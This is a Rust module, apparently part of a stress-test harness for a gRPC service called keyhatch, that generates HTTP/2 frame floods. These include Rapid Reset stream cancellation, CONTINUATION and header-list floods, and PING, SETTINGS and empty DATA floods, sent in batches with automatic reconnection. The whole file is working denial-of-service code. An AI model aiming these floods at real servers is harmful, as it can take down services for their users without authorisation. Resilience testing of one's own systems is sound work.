//! Floods of HTTP/2 frames over one connection at a time (RFC 9113).

use super::wire::Wire;
use super::{BATCH, Kind, Next, Pace, Tally, Target};

/// The first bytes of an HTTP/2 client: its preface and empty SETTINGS.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;
/// A flag of SETTINGS and PING.
pub const ACK: u8 = 1;
/// The error code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// The default largest frame.
const MAX_FRAME: usize = 16_384;

/// A frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a GetIdentity request.
pub fn request_headers() -> Vec<u8> {
    headers_of("/keyhatch.v1.StepService/WhoAmI")
}

/// The headers of a request for this path, without a table (RFC 7541, 6.2.2).
pub fn headers_of(path: &str) -> Vec<u8> {
    const METHOD_POST: u8 = 0x83;
    const SCHEME_HTTPS: u8 = 0x87;
    let mut block = vec![METHOD_POST, SCHEME_HTTPS];
    for (name, value) in [
        (&[0x04][..], path),
        (&[0x01], "localhost"),
        (&[0x0f, 0x10], "application/grpc"),
        (b"\0\x02te", "trailers"),
    ] {
        block.extend(name);
        block.push(u8::try_from(value.len()).unwrap());
        block.extend(value.as_bytes());
    }
    block
}

/// Unused headers of this many bytes.
fn idle_headers(bytes: usize) -> Vec<u8> {
    let one = [b"\0\x01x\x64", &[b'a'; 100][..]].concat();
    one.iter().copied().cycle().take(bytes / one.len() * one.len()).collect()
}

/// Piece `number` of a flood over one connection.
fn piece(kind: Kind, number: usize) -> Vec<u8> {
    let stream = u32::try_from(number * 2 + 1).unwrap();
    let opened = || frame(HEADERS, END_HEADERS, 1, &request_headers());
    match (kind, number) {
        (Kind::RapidReset, _) => {
            let headers = frame(HEADERS, END_HEADERS | END_STREAM, stream, &request_headers());
            [headers, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
        }
        (Kind::HeaderLists, _) => {
            let mut frames = frame(HEADERS, END_STREAM, stream, &request_headers());
            for _ in 0..3 {
                frames.extend(frame(CONTINUATION, 0, stream, &idle_headers(MAX_FRAME)));
            }
            frames.extend(frame(CONTINUATION, END_HEADERS, stream, &idle_headers(MAX_FRAME)));
            frames
        }
        (Kind::Continuations, 0) => frame(HEADERS, END_STREAM, 1, &request_headers()),
        (Kind::Continuations, _) => frame(CONTINUATION, 0, 1, &idle_headers(1024)),
        (Kind::EmptyData, 0) => opened(),
        (Kind::EmptyData, _) => frame(DATA, 0, 1, &[]),
        (Kind::Pings, _) => frame(PING, 0, 0, &[7; 8]),
        (Kind::Settings, _) => frame(SETTINGS, 0, 0, &[]),
        _ => panic!("{kind:?} is no flood of frames"),
    }
}

/// Connects again whenever the server ends the connection.
pub fn run(kind: Kind, target: &Target, pace: Pace<'_>) -> Tally {
    let mut tally = Tally::default();
    while pace(&tally) != Next::End {
        let Ok(Some(mut wire)) = Wire::connect(target) else {
            tally.turned_away += 1;
            std::thread::park_timeout(super::PATIENCE);
            continue;
        };
        tally.connected += 1;
        if over(kind, &mut wire, &mut tally, pace).is_err() {
            tally.ended += 1;
        }
    }
    tally
}

fn over(kind: Kind, wire: &mut Wire, tally: &mut Tally, pace: Pace<'_>) -> std::io::Result<()> {
    let before = *tally;
    wire.shake_hands(&mut |_| pace(&before))?;
    wire.send(PREFACE, &mut |_| pace(&before))?;
    for number in (0..).step_by(BATCH) {
        if pace(tally) == Next::End {
            return Ok(());
        }
        let pieces: Vec<u8> =
            (number..number + BATCH).flat_map(|number| piece(kind, number)).collect();
        let before = *tally;
        wire.send(&pieces, &mut |_| pace(&before))?;
        tally.sent += BATCH;
    }
    Ok(())
}
